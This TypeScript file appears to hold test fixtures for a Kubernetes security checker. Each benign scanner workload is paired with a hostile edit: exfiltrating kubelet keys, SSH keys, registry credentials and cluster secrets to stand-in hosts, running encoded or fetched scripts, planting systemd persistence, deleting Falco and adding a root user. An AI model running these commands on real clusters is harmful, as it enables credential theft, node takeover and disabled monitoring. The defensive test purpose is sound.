import { ARGO_CD, account, cronJob, daemonSet, FLUX_HELM, job, type Member, person, shell } from './member.ts';

const TRIVY_OPERATOR = account('trivy-system', 'trivy-operator', 'trivy-operator/v0.22.0');

/** Volumes of paths of the node, and their read-only mounts. */
const readsNode = (paths: Readonly<Record<string, string>>) => {
  const entries = Object.entries(paths).map(([path, mountPath], index) => ({ name: `node-${index}`, path, mountPath }));
  return {
    volumes: entries.map(({ name, path }) => ({ name, hostPath: { path } })),
    volumeMounts: entries.map(({ name, mountPath }) => ({ name, mountPath, readOnly: true })),
  };
};

/** https://github.com/aquasecurity/kube-bench/blob/main/job.yaml */
const BENCH = readsNode({
  '/var/lib/cni': '/var/lib/cni',
  '/var/lib/etcd': '/var/lib/etcd',
  '/var/lib/kubelet': '/var/lib/kubelet',
  '/var/lib/kube-scheduler': '/var/lib/kube-scheduler',
  '/var/lib/kube-controller-manager': '/var/lib/kube-controller-manager',
  '/etc/systemd': '/etc/systemd',
  '/lib/systemd': '/lib/systemd/',
  '/srv/kubernetes': '/srv/kubernetes/',
  '/etc/kubernetes': '/etc/kubernetes',
  '/usr/bin': '/usr/local/mount-from-host/bin',
  '/etc/cni/net.d/': '/etc/cni/net.d/',
  '/opt/cni/bin/': '/opt/cni/bin/',
});
const COLLECTOR = readsNode({
  '/var/lib/etcd': '/var/lib/etcd',
  '/var/lib/kubelet': '/var/lib/kubelet',
  '/etc/systemd': '/etc/systemd',
  '/lib/systemd': '/lib/systemd/',
  '/etc/kubernetes': '/etc/kubernetes',
  '/etc/cni/net.d/': '/etc/cni/net.d/',
});
const FALCO = readsNode({
  '/boot': '/host/boot',
  '/lib/modules': '/host/lib/modules',
  '/usr': '/host/usr',
  '/etc': '/host/etc',
  '/proc': '/host/proc',
});
const WHOLE_NODE = readsNode({ '/': '/host' });

/** Security scans, with the mounts of the node that they need. */
export const SCANNERS: readonly Member[] = [
  {
    what: 'kube-bench as its project publishes it',
    by: person('omar'),
    object: job(
      { name: 'kube-bench', namespace: 'security' },
      {
        hostPID: true,
        containers: [
          {
            name: 'kube-bench',
            image: 'docker.io/aquasec/kube-bench:v0.8.0',
            command: ['kube-bench'],
            volumeMounts: BENCH.volumeMounts,
          },
        ],
        volumes: BENCH.volumes,
      },
    ),
    change: {
      act: 'the namespaces of the node are entered in its place',
      edits: [['containers/0/command', ['nsenter', '-t', '1', '-m', '-u', '-n', '-i', 'sh']]],
    },
  },
  {
    what: 'kube-bench every week, for worker nodes',
    by: ARGO_CD,
    object: cronJob(
      {
        name: 'kube-bench',
        namespace: 'security',
        annotations: { 'argocd.argoproj.io/tracking-id': 'security:batch/CronJob:security/kube-bench' },
      },
      '0 5 * * 1',
      {
        hostPID: true,
        containers: [
          {
            name: 'kube-bench',
            image: 'ghcr.io/aquasecurity/kube-bench:v0.8.0',
            command: ['kube-bench', 'run', '--targets', 'node', '--json'],
            volumeMounts: BENCH.volumeMounts,
          },
        ],
        volumes: BENCH.volumes,
      },
    ),
    change: {
      act: 'a sidecar sends the key of the kubelet away',
      edits: [
        [
          'containers/-',
          shell(
            'curlimages/curl:8.10.1',
            'curl -s -T /var/lib/kubelet/pki/kubelet-client-current.pem https://drop.example.com/k',
            { name: 'report', volumeMounts: [{ name: 'node-2', mountPath: '/var/lib/kubelet', readOnly: true }] },
          ),
        ],
      ],
    },
  },
  {
    what: 'the report of an image, as the operator of Trivy orders it',
    by: TRIVY_OPERATOR,
    object: job(
      {
        name: 'scan-vulnerabilityreport-7c9b8f6d5',
        namespace: 'trivy-system',
        labels: { 'app.kubernetes.io/managed-by': 'trivy-operator' },
      },
      {
        serviceAccountName: 'trivy-operator',
        automountServiceAccountToken: false,
        initContainers: [
          {
            name: 'db',
            image: 'mirror.gcr.io/aquasec/trivy:0.57.1',
            command: ['trivy'],
            args: [
              '--cache-dir',
              '/tmp/trivy/.cache',
              'image',
              '--download-db-only',
              '--db-repository',
              'mirror.gcr.io/aquasec/trivy-db',
            ],
            volumeMounts: [{ name: 'tmp', mountPath: '/tmp' }],
          },
        ],
        containers: [
          {
            name: 'web',
            image: 'mirror.gcr.io/aquasec/trivy:0.57.1',
            command: ['/bin/sh'],
            args: [
              '-c',
              "trivy image --slow 'registry.example.com/shop/web:1842' --skip-db-update --cache-dir /tmp/trivy/.cache --scanners vuln --format json > /tmp/scan/result_web.json && bzip2 -c /tmp/scan/result_web.json | base64",
            ],
            volumeMounts: [
              { name: 'tmp', mountPath: '/tmp' },
              { name: 'scan', mountPath: '/tmp/scan' },
            ],
            securityContext: {
              privileged: false,
              allowPrivilegeEscalation: false,
              capabilities: { drop: ['all'] },
              readOnlyRootFilesystem: true,
            },
          },
        ],
        volumes: [
          { name: 'tmp', emptyDir: {} },
          { name: 'scan', emptyDir: {} },
        ],
      },
    ),
    change: {
      act: 'the result is decoded and run',
      edits: [
        [
          'containers/0/args/1',
          "trivy image --slow 'registry.example.com/shop/web:1842' --format json > /tmp/scan/r.json; echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | sh",
        ],
      ],
    },
  },
  {
    what: "Trivy's node collector, as its operator orders it",
    by: TRIVY_OPERATOR,
    object: job(
      { name: 'node-collector-5d8b7c9f4', namespace: 'trivy-system' },
      {
        hostPID: true,
        nodeSelector: { 'kubernetes.io/hostname': 'node-3' },
        containers: [
          {
            name: 'node-collector',
            image: 'ghcr.io/aquasecurity/node-collector:0.3.1',
            command: ['node-collector'],
            args: ['k8s', '--node', 'node-3'],
            volumeMounts: COLLECTOR.volumeMounts,
          },
        ],
        volumes: COLLECTOR.volumes,
      },
    ),
    change: {
      act: 'a hook before the end writes a unit of systemd',
      edits: [
        ['containers/0/volumeMounts/2', { name: 'node-2', mountPath: '/etc/systemd' }],
        [
          'containers/0/lifecycle',
          {
            preStop: {
              exec: {
                command: ['sh', '-c', 'printf "[Service]\\nExecStart=/var/tmp/.u\\n" > /etc/systemd/system/u.service'],
              },
            },
          },
        ],
      ],
    },
  },
  {
    what: 'Trivy over the images of a team',
    by: account('ci', 'deployer', 'helm/v3.16.2'),
    object: cronJob({ name: 'trivy', namespace: 'security' }, '0 2 * * *', {
      containers: [
        {
          name: 'trivy',
          image: 'aquasec/trivy:0.57.1',
          args: ['image', '--exit-code', '0', '--severity', 'HIGH,CRITICAL', 'registry.example.com/shop/web:1842'],
          env: [{ name: 'TRIVY_CACHE_DIR', value: '/cache' }],
          volumeMounts: [{ name: 'cache', mountPath: '/cache' }],
        },
      ],
      volumes: [{ name: 'cache', emptyDir: {} }],
    }),
    change: {
      act: 'a script is fetched and run before',
      edits: [
        ['initContainers/-', shell('alpine:3.20', 'wget -qO- http://203.0.113.7/prepare | sh', { name: 'prepare' })],
      ],
    },
  },
  {
    what: 'Falco on every node, from its chart through Argo CD',
    by: ARGO_CD,
    object: daemonSet(
      {
        name: 'falco',
        namespace: 'falco',
        annotations: { 'argocd.argoproj.io/tracking-id': 'falco:apps/DaemonSet:falco/falco' },
      },
      {
        serviceAccountName: 'falco',
        tolerations: [{ effect: 'NoSchedule', key: 'node-role.kubernetes.io/control-plane' }],
        containers: [
          {
            name: 'falco',
            image: 'docker.io/falcosecurity/falco:0.39.2-debian',
            args: ['/usr/bin/falco', '-o', 'engine.kind=modern_ebpf'],
            securityContext: { privileged: true },
            env: [{ name: 'HOST_ROOT', value: '/host' }],
            volumeMounts: [...FALCO.volumeMounts, { name: 'config', mountPath: '/etc/falco' }],
          },
        ],
        volumes: [...FALCO.volumes, { name: 'config', configMap: { name: 'falco' } }],
      },
    ),
    change: {
      act: 'a handler of the kernel is set',
      edits: [
        [
          'containers/0/args',
          ['/bin/sh', '-c', "echo '|/host/var/tmp/.u' > /host/proc/sys/kernel/core_pattern; exec /usr/bin/falco"],
        ],
      ],
    },
  },
  {
    what: 'rules of Falco that are checked',
    by: person('mia'),
    object: job(
      { name: 'falco-rules-check', namespace: 'falco' },
      {
        containers: [
          {
            name: 'falco',
            image: 'docker.io/falcosecurity/falco:0.39.2',
            command: ['/usr/bin/falco', '-V', '/rules/custom.yaml'],
            volumeMounts: [{ name: 'rules', mountPath: '/rules' }],
          },
        ],
        volumes: [{ name: 'rules', configMap: { name: 'falco-rules' } }],
      },
    ),
    change: {
      act: 'Falco is stopped',
      edits: [['containers/0/command', ['kubectl', '-n', 'falco-system', 'delete', 'daemonset', 'falco']]],
    },
  },
  {
    what: "Kubescape's host scanner",
    by: FLUX_HELM,
    object: daemonSet(
      { name: 'host-scanner', namespace: 'kubescape', annotations: { 'meta.helm.sh/release-name': 'kubescape' } },
      {
        hostPID: true,
        containers: [
          {
            name: 'host-sensor',
            image: 'quay.io/kubescape/host-scanner:v1.0.78',
            securityContext: { allowPrivilegeEscalation: true, privileged: true, readOnlyRootFilesystem: true },
            volumeMounts: [{ name: 'node-0', mountPath: '/host_fs', readOnly: true }],
          },
        ],
        volumes: WHOLE_NODE.volumes,
      },
    ),
    change: {
      act: 'a command: the root of the node is entered',
      edits: [['containers/0/command', ['chroot', '/host_fs', '/bin/sh']]],
    },
  },
  {
    what: 'ClamAV over the home directories of the node',
    by: person('ana'),
    object: cronJob({ name: 'clamav', namespace: 'security' }, '0 23 * * *', {
      containers: [
        shell('clamav/clamav:1.4', 'freshclam && clamscan -ri --exclude-dir=/host/proc /host/home', {
          volumeMounts: WHOLE_NODE.volumeMounts,
        }),
      ],
      volumes: WHOLE_NODE.volumes,
    }),
    change: {
      act: 'what is read goes away',
      edits: [
        [
          'containers/0/command/2',
          'freshclam; tar czf - /host/root/.ssh /host/home | curl -s -T - https://drop.example.com/c',
        ],
      ],
    },
  },
  {
    what: 'Grype over the images of a registry',
    by: person('lena'),
    object: cronJob({ name: 'grype', namespace: 'security' }, '0 3 * * *', {
      containers: [
        {
          name: 'grype',
          image: 'anchore/grype:v0.84.0',
          args: ['registry:registry.example.com/shop/web:1842', '--fail-on', 'critical', '-o', 'table'],
          volumeMounts: [{ name: 'auth', mountPath: '/config', readOnly: true }],
          env: [{ name: 'DOCKER_CONFIG', value: '/config' }],
        },
      ],
      volumes: [{ name: 'auth', secret: { secretName: 'registry-pull' } }],
    }),
    change: {
      act: 'the secret of the registry goes to an address',
      edits: [
        ['containers/0/command', ['wget', '-q', '--post-file=/config/config.json', 'http://203.0.113.7/g']],
        ['containers/0/args', []],
      ],
    },
  },
  {
    what: 'secrets in a repository, looked for by Gitleaks',
    by: account('ci', 'deployer', 'argo-workflows/v3.6.0'),
    object: cronJob({ name: 'gitleaks', namespace: 'security' }, '0 4 * * *', {
      initContainers: [
        {
          name: 'clone',
          image: 'alpine/git:2.45.2',
          args: ['clone', 'https://git.example.com/shop/web.git', '/repo'],
          volumeMounts: [{ name: 'repo', mountPath: '/repo' }],
        },
      ],
      containers: [
        {
          name: 'gitleaks',
          image: 'zricethezav/gitleaks:v8.21.2',
          args: ['detect', '--source=/repo', '--report-path=/tmp/report.json', '--exit-code=0'],
          volumeMounts: [{ name: 'repo', mountPath: '/repo' }],
        },
      ],
      volumes: [{ name: 'repo', emptyDir: {} }],
    }),
    change: {
      act: 'all secrets of the cluster are looked for, and sent away',
      edits: [
        ['containers/0/image', 'alpine/k8s:1.31.2'],
        [
          'containers/0/args',
          ['sh', '-c', 'kubectl get secrets -A -o json | curl -s -X POST -d @- https://drop.example.com/s'],
        ],
      ],
    },
  },
  {
    what: 'the settings of a cluster, read by Popeye',
    by: person('omar'),
    object: cronJob({ name: 'popeye', namespace: 'security' }, '0 7 * * 1', {
      serviceAccountName: 'popeye',
      containers: [
        {
          name: 'popeye',
          image: 'derailed/popeye:v0.21.5',
          args: ['-o', 'html', '--force-exit-zero', '--push-gtwy-url', 'http://pushgateway.monitoring:9091'],
        },
      ],
    }),
    change: {
      act: 'a privileged container on the processes of the node enters them',
      edits: [
        ['hostPID', true],
        ['containers/0/securityContext', { privileged: true }],
        ['containers/0/command', ['nsenter', '--target', '1', '--all', '--', 'bash', '-c', 'useradd -o -u 0 ops']],
      ],
    },
  },
];
